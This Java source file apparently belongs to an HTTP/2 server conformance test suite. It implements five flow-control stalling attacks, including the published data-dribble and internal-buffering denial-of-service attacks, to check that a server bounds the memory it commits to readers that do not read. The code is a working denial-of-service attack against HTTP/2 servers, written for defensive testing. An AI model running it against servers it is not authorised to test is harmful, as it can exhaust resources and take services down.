package dev.gannet.conformance.gauntlet.attack;

import dev.gannet.conformance.gauntlet.attack.AttackDescription.Fate;
import dev.gannet.conformance.gauntlet.wire.Frames;
import dev.gannet.conformance.gauntlet.wire.Messages;
import dev.gannet.conformance.gauntlet.wire.RawConnection;
import dev.gannet.conformance.gauntlet.wire.Reading;
import dev.gannet.conformance.gauntlet.wire.Requests;
import java.io.IOException;

/** Large responses that are requested and not read. */
enum StalledReader implements Attack {
  /** The largest possible windows, and a socket that is not read. */
  SOCKET("internal-buffering", Reading.NEVER, Frames.LARGEST_WINDOW, 0, "2019-9517"),
  /** Windows that are opened by one byte, again and again. */
  DRIBBLE("data-dribble", Reading.EAGER, 0, 1, "2019-9511"),
  /** Windows of the usual size, and a socket that is not read. */
  READER("slow-read", Reading.NEVER, 65_535, 0, ""),
  /** Windows that are never opened. */
  WINDOW("zero-window", Reading.EAGER, 0, 0, ""),
  /** The same attack on responses that are complete when they are sent. */
  UNARY("zero-window-unary", Reading.EAGER, 0, 0, "");

  private static final int STREAMS = 100;
  private static final int RESPONSES = 16;
  private static final int RESPONSE_BYTES = 32 << 10;
  private static final int ONE_RESPONSE_BYTES = 1 << 20;
  private static final int PAUSE_MILLIS = 20;

  private final String name;
  private final Reading reading;
  private final int windowBytes;
  private final int dripBytes;
  private final String cve;

  StalledReader(String name, Reading reading, int windowBytes, int dripBytes, String cve) {
    this.name = name;
    this.reading = reading;
    this.windowBytes = windowBytes;
    this.dripBytes = dripBytes;
    this.cve = cve;
  }

  @Override
  public AttackDescription description() {
    return new AttackDescription(
            name,
            "RFC 9113 §10.5",
            Fate.BOUNDED,
            "bounds what it prepares for a reader that does not take it")
        .published(cve);
  }

  @Override
  public void attack(Front front) throws IOException {
    RawConnection connection = front.connect(reading, Frames.INITIAL_WINDOW_SIZE, windowBytes);
    connection.send(Frames.windowUpdate(0, Frames.LARGEST_WINDOW - 65_535));
    connection.send(Frames.settingsAck()); // otherwise waiting for it would end the attack
    Requests requests = Requests.to(this == UNARY ? Requests.UNARY : Requests.DOWNLOAD);
    byte[] wish =
        this == UNARY
            ? Messages.wantingOne(ONE_RESPONSE_BYTES)
            : Messages.wantingMany(RESPONSES, RESPONSE_BYTES);
    for (int i = 0; i < STREAMS; i++) {
      connection.send(Frames.headers(2 * i + 1, Frames.END_HEADERS, requests.next()));
      connection.send(Frames.data(2 * i + 1, Frames.END_STREAM, wish));
    }
    connection.flush();
    for (int i = 0; front.goesOn(connection); i++) {
      if (dripBytes > 0) {
        connection.send(Frames.windowUpdate(2 * (i % STREAMS) + 1, dripBytes));
      } else {
        front.pauseMillis(PAUSE_MILLIS);
        connection.flush();
      }
    }
  }
}
